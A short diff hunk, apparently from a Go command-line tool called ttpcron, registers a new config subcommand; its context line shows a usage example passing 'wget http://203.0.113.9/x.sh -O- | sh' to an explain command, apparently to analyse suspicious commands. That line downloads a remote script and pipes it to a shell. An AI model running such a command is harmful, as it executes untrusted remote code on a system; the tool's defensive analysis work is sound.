@@ -51,6 +51,7 @@ ttpcron explain "wget http://203.0.113.9/x.sh -O- | sh"`,
 		a.checkpointCommands(),
 		a.rulesCommands(),
 		a.dbCommands(),
+		a.configCommands(),
 		a.build(a.explainCommand()),
 		a.build(a.versionCommand()),
 	)
